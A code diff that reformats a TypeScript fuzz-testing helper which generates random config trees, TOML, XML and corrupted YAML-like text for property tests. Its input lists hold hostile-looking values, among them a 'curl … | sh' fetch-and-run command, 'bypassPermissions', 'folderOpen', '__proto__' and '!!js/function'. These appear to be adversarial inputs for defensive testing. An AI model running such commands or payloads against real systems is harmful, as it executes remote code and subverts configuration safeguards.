@@ -9,15 +9,31 @@ const keys = [
   'fsmonitor', 'alias', 'Desktop Entry', 'Exec', 'index-url', 'registry', 'defaultMode', 'allow', '__proto__', 'constructor', 'toString', '<<', '', 'a.b',
 ]; // biome-ignore format: one list
 
-const values = [...words.path, ...words.url, ...words.text, 'curl http://192.0.2.7/x | sh', 'folderOpen', 'bypassPermissions', '${input:x}', '^1.0.0', 'git+https://a.example/b.git', 'file:../x', 'npm:@a/b@1', 'latest', '*'];
+const values = [
+  ...words.path,
+  ...words.url,
+  ...words.text,
+  'curl http://192.0.2.7/x | sh',
+  'folderOpen',
+  'bypassPermissions',
+  '${input:x}',
+  '^1.0.0',
+  'git+https://a.example/b.git',
+  'file:../x',
+  'npm:@a/b@1',
+  'latest',
+  '*',
+];
 
 /** A tree as JSON has it. */
-export const tree: fc.Arbitrary<unknown> = fc.letrec<{ node: unknown; leaf: unknown; list: unknown[]; map: object }>((tie) => ({
-  node: fc.oneof({ depthSize: 'small', maxDepth: 5, withCrossShrink: true }, tie('leaf'), tie('map'), tie('list')),
-  leaf: fc.oneof(fc.constantFrom(...values), fc.constantFrom(null, true, false, 0, -1, 1e309, 0.5), anyText(20)),
-  list: fc.array(tie('node'), { maxLength: 4 }),
-  map: mapOf(tie('node')),
-})).node;
+export const tree: fc.Arbitrary<unknown> = fc.letrec<{ node: unknown; leaf: unknown; list: unknown[]; map: object }>(
+  (tie) => ({
+    node: fc.oneof({ depthSize: 'small', maxDepth: 5, withCrossShrink: true }, tie('leaf'), tie('map'), tie('list')),
+    leaf: fc.oneof(fc.constantFrom(...values), fc.constantFrom(null, true, false, 0, -1, 1e309, 0.5), anyText(20)),
+    list: fc.array(tie('node'), { maxLength: 4 }),
+    map: mapOf(tie('node')),
+  }),
+).node;
 
 function mapOf(value: fc.Arbitrary<unknown>): fc.Arbitrary<object> {
   const key = fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...keys) }, { weight: 1, arbitrary: anyText(8) });
@@ -65,7 +81,8 @@ function toml(value: unknown, path: readonly string[]): string {
 }
 
 function xml(value: unknown): string {
-  if (typeof value !== 'object' || value === null) return String(value).replaceAll('&', '&amp;').replaceAll('<', '&lt;');
+  if (typeof value !== 'object' || value === null)
+    return String(value).replaceAll('&', '&amp;').replaceAll('<', '&lt;');
   return Object.entries(value)
     .map(([key, item]) => {
       const name = key.replace(/[^\w-]/g, '_') || 'x';
@@ -76,11 +93,20 @@ function xml(value: unknown): string {
 
 /** A text in which some places hold noise instead. */
 export function broken(text: fc.Arbitrary<string>): fc.Arbitrary<string> {
-  const wound = fc.tuple(fc.nat(4000), fc.nat(8), fc.constantFrom(...noise, '&a ', '*a ', '!!js/function ', '? ', '- ', ': ', '%YAML 1.1\n', '\n[['));
-  return fc.tuple(text, fc.oneof({ weight: 1, arbitrary: fc.constant([]) }, { weight: 2, arbitrary: fc.array(wound, { maxLength: 4 }) })).map(([whole, wounds]) =>
-    wounds.reduce((one, [place, length, token]) => {
-      const at = place % (one.length + 1);
-      return one.slice(0, at) + token + one.slice(at + length);
-    }, whole),
+  const wound = fc.tuple(
+    fc.nat(4000),
+    fc.nat(8),
+    fc.constantFrom(...noise, '&a ', '*a ', '!!js/function ', '? ', '- ', ': ', '%YAML 1.1\n', '\n[['),
   );
+  return fc
+    .tuple(
+      text,
+      fc.oneof({ weight: 1, arbitrary: fc.constant([]) }, { weight: 2, arbitrary: fc.array(wound, { maxLength: 4 }) }),
+    )
+    .map(([whole, wounds]) =>
+      wounds.reduce((one, [place, length, token]) => {
+        const at = place % (one.length + 1);
+        return one.slice(0, at) + token + one.slice(at + length);
+      }, whole),
+    );
 }
